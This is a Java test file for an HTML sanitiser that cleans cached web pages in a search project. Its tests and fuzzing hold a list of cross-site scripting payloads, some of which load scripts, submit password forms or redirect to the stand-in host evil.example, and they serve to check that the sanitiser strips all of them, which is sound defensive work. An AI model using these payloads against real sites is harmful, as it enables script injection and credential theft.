package dev.remora.search.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HarmlessHtmlTest {
    private static final String BASE = "http://a.example/dir/page.html";

    private static String clean(String html) {
        return ((Copy.Shown) HarmlessHtml.of(html, BASE, CopyLimits.DEFAULT, () -> 0)).html();
    }

    @Test
    void textHeadingsListsTablesAndLinksRemain() {
        assertEquals(
                "<h2>一</h2><p>甲<b>乙</b></p><ul><li>丙</li></ul>"
                        + "<table><tbody><tr><td colspan=\"2\">丁</td></tr></tbody></table>"
                        + "<a href=\"http://a.example/dir/b.html\" rel=\"nofollow noopener noreferrer ugc\""
                        + " target=\"_blank\">戊</a>",
                clean("<h1 class=top id=x style='color:red'>一</h1><p onclick=x()>甲<b>乙</b></p><ul><li>丙</ul>"
                        + "<table><tr><td colspan=2 background=http://evil.example/x.png>丁</table>"
                        + "<a href=b.html onmouseover=x()>戊</a>"));
    }

    @Test
    void linksThatLeadToNoAddressOfTheWebAreText() {
        assertEquals(
                "<p>一<b>二</b>三</p>",
                clean("<p><a name=x>一</a><a href='javascript:x()'><b>二</b></a><a href='ftp://a.example/'>三</a>"));
    }

    @Test
    void theLandmarksOfAPageAreNotThoseOfTheSite() {
        assertEquals(
                "<div>一</div><div>二</div><div><p>三</p></div><div>四</div><div>五</div><article>六</article>",
                clean("<header>一</header><nav>二</nav><main><p>三</p></main><aside>四</aside><footer>五</footer>"
                        + "<article>六</article>"));
    }

    @Test
    void aNoteForArchivesIsFoundWhereNothingIsShown() {
        String html = "<noscript><meta name=robots content=noarchive></noscript><p>x";
        assertEquals(new Copy.Withheld(), HarmlessHtml.of(html, BASE, CopyLimits.DEFAULT, () -> 0));
    }

    @Test
    void picturesBecomeTheirWords() {
        assertEquals("<p>[针灸图]</p>", clean("<p><img src=http://evil.example/t.gif alt=针灸图><img src=x></p>"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' java\tscript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<form action=http://evil.example><input name=password type=password><button>x</button></form>",
                "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/x.css'</style>",
                "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
                "<base href=http://evil.example/>",
                "<object data=x></object><embed src=x><applet code=x></applet>",
                "<video src=http://evil.example/v autoplay onplay=alert(1)></video>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<body onload=alert(1) background=http://evil.example/x>",
                "<div style='background:url(http://evil.example/x)'>x</div>",
                "<template><script>alert(1)</script></template>",
                "<textarea><script>alert(1)</script></textarea>",
                "<title></title><img src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<x/onclick=alert(1)>x"
            })
    void nothingThatRunsLoadsOrSubmitsRemains(String html) {
        assertHarmless(clean(html));
    }

    @Property(tries = 300)
    void noMixtureOfPiecesIsHarmful(@ForAll("pieces") String html) {
        assertHarmless(clean(html));
    }

    @Provide
    Arbitrary<String> pieces() {
        return Arbitraries.of(
                        "<",
                        ">",
                        "</",
                        "script",
                        "svg",
                        "<svg>",
                        "<math>",
                        "<style>",
                        "</style>",
                        "<a href=",
                        "javascript:",
                        "alert(1)",
                        " onload=",
                        "\"",
                        "'",
                        "<!--",
                        "-->",
                        "<![CDATA[",
                        "]]>",
                        "<template>",
                        "<noscript>",
                        "</noscript>",
                        "<table>",
                        "<td>",
                        "<form>",
                        "<iframe src=",
                        "字",
                        " ",
                        "=",
                        "/",
                        "<title>",
                        "<textarea>",
                        "<img src=x onerror=alert(1)>",
                        "&lt;script&gt;",
                        "\u0000")
                .list()
                .ofMaxSize(14)
                .map(parts -> String.join("", parts));
    }

    private static void assertHarmless(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
            String tag = element.normalName();
            assertTrue(
                    !List.of(
                                    "script",
                                    "style",
                                    "svg",
                                    "math",
                                    "iframe",
                                    "object",
                                    "embed",
                                    "form",
                                    "input",
                                    "link",
                                    "meta",
                                    "base",
                                    "img",
                                    "video",
                                    "template",
                                    "noscript",
                                    "details",
                                    "button")
                            .contains(tag),
                    html);
            element.attributes().forEach(attribute -> {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertTrue(
                        List.of("href", "title", "rel", "target", "colspan", "rowspan", "start")
                                .contains(name),
                        html);
            });
            String href = element.attr("href");
            assertTrue(href.isEmpty() || href.startsWith("http://") || href.startsWith("https://"), html);
        }
    }

    @ParameterizedTest
    @CsvSource({
        "robots, noarchive, true",
        "ROBOTS, 'INDEX, NOARCHIVE', true",
        "robots, none, true",
        "robots, 'index,\nNoArchive', true",
        "robots, 'index, follow', false",
        "robots, 'max-image-preview:none', false",
        "description, noarchive, false"
    })
    void aPageMayWithholdItsCopy(String name, String content, boolean withheld) {
        String html = "<meta name='" + name + "' content='" + content + "'><p>x";
        Copy copy = HarmlessHtml.of(html, BASE, CopyLimits.DEFAULT, () -> 0);
        assertEquals(withheld, copy instanceof Copy.Withheld);
    }

    @Test
    void aTextBecomesParagraphs() {
        assertEquals(
                new Copy.Shown("<p>一 &lt;b&gt;</p>\n<p>二</p>", false, false),
                HarmlessHtml.ofText("一 <b>\n\n二\n", CopyLimits.DEFAULT));
    }
}
